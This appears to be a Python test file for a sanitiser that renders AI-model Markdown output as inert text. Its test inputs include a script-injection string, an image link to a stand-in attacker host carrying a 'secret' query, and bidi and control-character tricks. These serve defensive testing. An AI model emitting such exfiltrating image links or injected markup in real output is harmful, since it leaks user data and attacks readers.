"""What a model wrote is drawn as text: nothing in it becomes a link, a picture, a formula, an icon or a colour."""

from __future__ import annotations

import html
import re

import pytest
from hypothesis import given
from hypothesis import strategies as st

from rapport.exporting.display import escape, safe_markdown

HOSTILE = st.text(alphabet="ab1 .\n\t*_[]()!<>:/@$`~#-+=|\\{}&;'\"www", max_size=80)
OURS = re.compile(r":small\[\]|\\\n|\*{1,3}(?=[^*]|$)")


def as_seen(markdown: str) -> str:
    """What a reader sees of escaped Markdown: cuts vanish, hard breaks are line ends, entities are characters."""
    return html.unescape(markdown.replace(":small[]", "").replace("\\\n", "\n"))


@pytest.mark.parametrize(
    "text",
    [
        pytest.param("<script>alert(1)</script>", id="HTML"),
        pytest.param("![x][ref]\n[ref]: http://evil.example/x.png", id="picture by reference"),
        pytest.param("<http://evil.example>", id="autolink"),
        pytest.param("[a]: http://evil.example", id="definition"),
        pytest.param("$\\frac{1}{2}$ costs $5", id="formula"),
        pytest.param(":red[stop] :material/home: :streamlit: :smile: :+1:", id="directives and icons"),
        pytest.param("::: warning\ntext\n:::", id="container directive"),
        pytest.param("```\ncode\n```", id="fence"),
        pytest.param("| a | b |\n|---|---|\n| 1 | 2 |", id="table"),
        pytest.param("Title\n===\nOther\n---", id="underlined headings"),
        pytest.param("1. one\n2) two\n- three\n+ four", id="lists"),
        pytest.param("> quoted", id="quotation"),
        pytest.param("&lt;b&gt; &#42;", id="entities"),
        pytest.param("a -> b <-> c -- d >= e ~= f", id="signs that would be prettified"),
        pytest.param("[^1] [^1]: note", id="footnote"),
    ],
)
def test_a_text_is_seen_exactly_as_it_was_written(text: str) -> None:
    assert as_seen(safe_markdown(text)) == text


@pytest.mark.parametrize(
    ("text", "drawn"),
    [
        pytest.param("https://x.example", "https&#58;:small[]//x.example", id="address with a scheme"),
        pytest.param("www.x.example", "www:small[].x.example", id="address without a scheme"),
        pytest.param("a@b.example", "a&#64;:small[]b.example", id="e-mail address"),
        pytest.param(":material_home:", "&#58;:small[]material&#95;home&#58;", id="icon"),
    ],
)
def test_what_is_recognised_after_unescaping_is_cut_in_two(text: str, drawn: str) -> None:
    assert escape(text) == drawn


@pytest.mark.parametrize(
    ("text", "seen"),
    [
        pytest.param("![a chart](https://evil.example/?q=secret)", "a chart", id="picture"),
        pytest.param('![](https://evil.example/x.png "title")', "", id="picture without a description"),
        pytest.param("[our site](https://x.example)", "our site (https://x.example)", id="link"),
        pytest.param("[https://x.example](https://x.example)", "https://x.example", id="link that shows its address"),
        pytest.param("[![logo](http://e/x.png)](http://e)", "logo (http://e)", id="linked picture"),
        pytest.param("## About you", "**About you**", id="heading"),
        pytest.param("a\r\nb\rc\u2028d", "a\nb\nc\nd", id="line ends of all systems"),
        pytest.param("\u202eevil\x00\x1b[31m", "evil[31m", id="reordering and control characters"),
    ],
)
def test_markdown_of_a_model_becomes_readable_text(text: str, seen: str) -> None:
    assert as_seen(safe_markdown(text)) == seen


def test_bold_and_italics_are_kept() -> None:
    assert safe_markdown("**Subject:** a *new* job").replace(":small[]", "") == "**Subject&#58;** a *new* job"


def test_line_breaks_stay_and_blank_lines_part_paragraphs() -> None:
    assert safe_markdown("Dear Ana,\n\n\nHello\nthere") == "Dear Ana,\n\nHello\\\nthere"


def test_an_indented_line_is_no_code() -> None:
    assert safe_markdown("    x").startswith("&#160;&#160;&#160;&#160;x")


@given(HOSTILE)
def test_no_sign_that_starts_markup_is_left(text: str) -> None:
    left = OURS.sub("·", safe_markdown(text))
    assert not set(left) & set("\\`_{}[]<>+=|~$^!:@-")
    assert not re.search(r"www\.|\d[.)]|&(?!#\d+;)|#(?!\d+;)", left)


@given(HOSTILE.map(lambda text: " ".join(text.split())))
def test_escaping_loses_no_character(text: str) -> None:
    assert as_seen(escape(text)) == text


@pytest.mark.parametrize("piece", ["**a", "[a](", "![", "*", "[a](b ", "# ", ":a", "www.", "<", " __a", "![a](b "])
def test_long_hostile_text_is_drawn_in_a_moment(piece: str) -> None:
    assert len(safe_markdown(piece * 10_000)) > 0
